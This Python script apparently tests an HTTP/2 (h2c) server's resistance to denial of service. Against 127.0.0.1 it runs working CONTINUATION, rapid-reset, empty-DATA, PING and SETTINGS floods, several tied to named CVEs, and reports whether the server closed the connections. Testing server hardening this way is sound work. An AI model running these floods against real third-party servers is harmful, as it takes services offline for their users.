"""Frame-level HTTP/2 attacks on an h2c port, with Python's h2/hyperframe/hpack.

Usage: attack.py MODE PORT CONNECTIONS PARALLEL

MODE is one of
  continuation        HEADERS without END_HEADERS, then CONTINUATION frames of 16 KiB,
                      each one whole header field (a header block that never ends),
                      until the server closes
  continuation-empty  the same with empty CONTINUATION frames
  rapid-reset         streams opened (HEADERS) and reset (RST_STREAM CANCEL) at once,
                      PAIRS at a time, until the server closes
  empty-data          a request whose body never ends: empty DATA frames without END_STREAM
                      (CVE-2019-9518), BURST at a time, until the server closes
  ping                PING frames, BURST at a time, never reading the PING ACKs (CVE-2019-9512)
  settings            empty SETTINGS frames, BURST at a time, never reading the ACKs
                      (CVE-2019-9515)

CONNECTIONS attack connections are made, PARALLEL at a time, each to 127.0.0.1:PORT.
Each one sends at most MAX_FRAMES frames (a rapid-reset burst counts as one) or for
MAX_SECONDS; the server is expected to close it long before. One JSON object is printed: per mode, how many connections the
server closed, the GOAWAY error codes it sent, and the most frames one connection got to
send before the close was seen.
"""

import json
import select
import socket
import sys
import threading
import time

import h2.config
import h2.connection
import h2.errors
import h2.events
import hpack
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    SettingsFrame,
)

MAX_FRAMES = 20_000
MAX_SECONDS = 10.0
CHUNK = 16_384
PAIRS = 200
BURST = 100


def connect(port):
    """A TCP connection with the client preface and SETTINGS sent (h2 library)."""
    sock = socket.create_connection(("127.0.0.1", port), timeout=MAX_SECONDS)
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
    conn.initiate_connection()
    sock.sendall(conn.data_to_send())
    return sock, conn


class Watch:
    """What the server sent back: its GOAWAY, and whether it closed (EOF or reset)."""

    def __init__(self, sock):
        self.sock = sock
        self.buf = b""
        self.goaway = None
        self.closed = False

    def poll(self, wait=0.0):
        """Reads whatever is there (within `wait` seconds); True once the server closed."""
        while not self.closed:
            readable, _, _ = select.select([self.sock], [], [], wait)
            if not readable:
                break
            try:
                data = self.sock.recv(65536)
            except (ConnectionResetError, BrokenPipeError):
                data = b""
            if not data:
                self.closed = True
                break
            self.buf += data
            self.parse()
            wait = 0.0
        return self.closed

    def parse(self):
        while len(self.buf) >= 9:
            frame, length = Frame.parse_frame_header(memoryview(self.buf[:9]))
            if len(self.buf) < 9 + length:
                return
            frame.parse_body(memoryview(self.buf[9 : 9 + length]))
            self.buf = self.buf[9 + length :]
            if isinstance(frame, GoAwayFrame):
                self.goaway = (frame.last_stream_id, frame.error_code)


REQUEST = [(":method", "GET"), (":scheme", "http"), (":path", "/"), (":authority", "localhost")]


def filler(size):
    """One never-indexed literal header field whose HPACK encoding is exactly `size` bytes: a
    frame of whole fields keeps the server's HPACK decoder in step, so what ends the
    connection is the flood, not a broken header block."""
    for n in range(size - 16, size):
        field = hpack.Encoder().encode([hpack.NeverIndexedHeaderTuple("x-flood", "a" * n)], huffman=False)
        if len(field) == size:
            return field
    raise ValueError(size)


def send_frames(sock, watch, frames):
    """Sends the frames one by one; the count sent before the server was seen to close."""
    sent = 0
    deadline = time.monotonic() + MAX_SECONDS
    for frame in frames:
        try:
            sock.sendall(frame)
        except (BrokenPipeError, ConnectionResetError, socket.timeout):
            watch.closed = True
            break
        sent += 1
        if sent >= MAX_FRAMES or time.monotonic() > deadline or watch.poll():
            break
    return sent


def continuation(port, empty):
    sock, _ = connect(port)
    watch = Watch(sock)
    request = hpack.Encoder().encode(REQUEST, huffman=False)
    payload = b"" if empty else filler(CHUNK)

    def frames():
        yield HeadersFrame(1, data=request, flags=["END_STREAM"]).serialize()
        while True:
            yield ContinuationFrame(1, data=payload).serialize()

    sent = send_frames(sock, watch, frames())
    return finish(sock, watch, sent)


def rapid_reset(port):
    sock, conn = connect(port)
    watch = Watch(sock)
    headers = REQUEST[:2] + [(":path", "/big.bin")] + REQUEST[3:]

    def bursts():
        while True:
            for _ in range(PAIRS):
                stream = conn.get_next_available_stream_id()
                conn.send_headers(stream, headers, end_stream=True)
                conn.reset_stream(stream, error_code=h2.errors.ErrorCodes.CANCEL)
            yield conn.data_to_send()

    sent = send_frames(sock, watch, bursts()) * 2 * PAIRS
    return finish(sock, watch, sent)


def flood(port, mode):
    """Empty DATA frames on an open request stream, or PINGs, or empty SETTINGS: BURST frames
    per write (each write counts as one frame towards MAX_FRAMES)."""
    sock, _ = connect(port)
    watch = Watch(sock)
    if mode == "empty-data":
        request = hpack.Encoder().encode(REQUEST, huffman=False)
        sock.sendall(HeadersFrame(1, data=request, flags=["END_HEADERS"]).serialize())
        one = DataFrame(1, data=b"").serialize()
    elif mode == "ping":
        one = PingFrame(0, opaque_data=b"12345678").serialize()
    else:
        one = SettingsFrame(0).serialize()
    burst = one * BURST

    def frames():
        while True:
            yield burst

    sent = send_frames(sock, watch, frames()) * BURST
    return finish(sock, watch, sent)


def finish(sock, watch, sent):
    """Waits (a little) for the server to close; the connection's outcome."""
    deadline = time.monotonic() + 5.0
    while not watch.closed and time.monotonic() < deadline:
        watch.poll(0.1)
    sock.close()
    return {"frames_sent": sent, "closed": watch.closed, "goaway": watch.goaway}


def main():
    mode, port, connections, parallel = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), int(sys.argv[4])
    attack = {
        "continuation": lambda: continuation(port, empty=False),
        "continuation-empty": lambda: continuation(port, empty=True),
        "rapid-reset": lambda: rapid_reset(port),
        "empty-data": lambda: flood(port, "empty-data"),
        "ping": lambda: flood(port, "ping"),
        "settings": lambda: flood(port, "settings"),
    }[mode]
    outcomes = []
    lock = threading.Lock()
    todo = iter(range(connections))

    def worker():
        while True:
            with lock:
                if next(todo, None) is None:
                    return
            try:
                outcome = attack()
            except OSError as err:
                outcome = {"frames_sent": 0, "closed": True, "goaway": None, "error": str(err)}
            with lock:
                outcomes.append(outcome)

    started = time.monotonic()
    threads = [threading.Thread(target=worker) for _ in range(parallel)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    codes = {}
    for outcome in outcomes:
        code = "none" if outcome["goaway"] is None else str(outcome["goaway"][1])
        codes[code] = codes.get(code, 0) + 1
    print(
        json.dumps(
            {
                "mode": mode,
                "connections": len(outcomes),
                "closed_by_server": sum(1 for o in outcomes if o["closed"]),
                "goaway_codes": codes,
                "max_frames_sent": max(o["frames_sent"] for o in outcomes),
                "errors": [o["error"] for o in outcomes if "error" in o][:3],
                "seconds": round(time.monotonic() - started, 2),
            }
        )
    )


if __name__ == "__main__":
    main()
